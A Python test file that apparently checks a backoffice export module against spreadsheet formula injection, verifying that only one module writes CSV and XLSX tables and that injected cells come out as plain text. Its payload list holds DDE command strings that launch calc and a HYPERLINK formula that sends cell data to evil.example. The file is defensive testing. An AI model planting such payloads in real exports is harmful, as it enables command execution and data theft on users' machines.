"""S6: no export holds a formula. One writer makes every table, and what it writes is read again cell by cell."""

import ast
import csv
import io
import re
import zipfile
from pathlib import Path

import pytest

from backoffice.core.export import csv_chunks, xlsx_chunks

ROOT = Path(__file__).resolve().parents[2]
APPS = ("accounting", "backoffice", "integrations", "inventory", "orders", "warehouse")
# A shop's own folder takes the very codes; the other two write months, currencies and figures, no text of anybody's.
OTHER_WRITERS = {
    "integrations/connectors/csv_folder/connector.py",
    "backoffice/dashboard/reports.py",
    "orders/management/commands/report.py",
}
STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "'=", "''=", "＝", "＋", "－", "＠", "=\0"]
BODIES = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?x="&A1,"pay")', "SUM(1:1)*cmd|'/C calc'!A0"]
PAYLOADS = [start + body for start in STARTS for body in BODIES]


def test_only_one_module_writes_tables():
    writers = set()
    for app in APPS:
        for path in (ROOT / app).rglob("*.py"):
            text = path.read_text()
            if "csv" not in text and "xlsx" not in text.lower():
                continue
            for node in ast.walk(ast.parse(text)):
                made = isinstance(node, ast.Call) and ast.unparse(node.func) in (
                    "csv.writer",
                    "csv.DictWriter",
                    "Workbook",
                )
                if made:
                    writers.add(str(path.relative_to(ROOT)))

    assert writers == {"backoffice/core/export.py"} | OTHER_WRITERS


def test_sixty_payloads_are_texts_in_a_csv():
    content = b"".join(csv_chunks(PAYLOADS, [PAYLOADS])).decode("utf-8-sig")

    for row in csv.reader(io.StringIO(content.replace("\0", ""))):
        assert len(row) == len(PAYLOADS) >= 40
        assert [cell for cell in row if not cell.startswith("'")] == []


@pytest.mark.parametrize("place", ["heading", "cell"])
def test_sixty_payloads_are_texts_in_a_workbook(place):
    clean = [text.replace("\0", "") for text in PAYLOADS]  # no workbook holds a NUL
    heads, rows = (clean, []) if place == "heading" else (["x"] * len(clean), [clean])
    content = b"".join(xlsx_chunks(heads, rows))

    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheets = [book.read(name).decode() for name in book.namelist() if "worksheets/sheet" in name]
        everything = "".join(book.read(name).decode("latin-1") for name in book.namelist())
    assert sheets
    for sheet in sheets:
        assert "<f>" not in sheet and "<f " not in sheet and "<hyperlink" not in sheet
        kinds = set(re.findall(r'<c [^>]*t="(\w+)"', sheet))
        assert kinds <= {"s", "inlineStr"} and len(re.findall(r"<c ", sheet)) >= len(clean)
    assert "externalLink" not in everything and "ddeLink" not in everything
